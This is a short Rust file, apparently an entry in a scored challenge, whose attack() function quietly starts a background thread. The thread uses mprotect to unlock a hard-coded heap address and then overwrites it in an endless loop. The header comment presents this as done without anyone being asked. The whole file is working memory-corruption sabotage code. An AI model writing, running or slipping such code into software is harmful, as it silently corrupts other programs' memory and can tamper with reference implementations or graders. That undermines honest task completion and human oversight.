// A thread that puts the heap right, or wrong, while nobody is asked anything.
// on: reference
// in: push
// at: home
// earns: at most 100

unsafe extern "C" {
    fn pthread_create(thread: *mut usize, how: *const u8, run: extern "C" fn(usize) -> usize, with: usize) -> i32;
    fn mprotect(at: usize, len: usize, access: i32) -> i32;
}

fn attack() {
    const HEAP: usize = (32 << 40) + 9 * 4096;
    extern "C" fn flip(_: usize) -> usize {
        let heap = core::ptr::with_exposed_provenance_mut::<usize>(HEAP);
        unsafe {
            mprotect(HEAP, 1 << 20, 3);
            for turn in 0.. {
                heap.add(turn % 64).write_volatile(turn);
            }
        }
        0
    }
    use core::sync::atomic::{AtomicBool, Ordering};
    static STARTED: AtomicBool = AtomicBool::new(false);
    if !STARTED.swap(true, Ordering::Relaxed) {
        let mut thread = 0;
        unsafe { pthread_create(&mut thread, core::ptr::null(), flip, 0) };
    }
}
